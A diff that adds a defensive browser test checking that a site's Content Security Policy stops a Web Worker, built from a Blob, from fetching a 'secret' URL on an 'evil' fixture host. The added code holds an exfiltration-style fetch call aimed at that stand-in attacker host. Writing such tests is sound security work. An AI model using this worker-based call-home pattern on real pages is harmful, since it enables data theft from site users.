@@ -175,6 +175,24 @@ def test_a_figure_runs_the_code_that_the_build_has_seen_and_no_other(visit, site
     assert page.evaluate("window.planted") is None
 
 
+WORKS = """home => new Promise((done) => {
+  const asks = `fetch("${home}/?secret", { mode: "no-cors" })`;
+  const code = `${asks}.then(() => postMessage("sent"), () => postMessage("not"))`;
+  const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
+  worker.onmessage = ({ data }) => done(data);
+})"""
+
+
+def test_a_worker_may_compute_and_not_call_home(visit, evil):
+    """The code of a worker cannot be listed by its sum; the page's policy holds in it all the same."""
+    home, asked = evil
+    page, _ = visit(RACE)
+    assert page.evaluate(WORKS, home) == "not" and asked == []
+    page, _ = visit(RACE, bypass_csp=True)
+    page.context.grant_permissions(["local-network-access"])
+    assert page.evaluate(WORKS, home) == "sent" and asked
+
+
 # ---- The build refuses, too
 
 
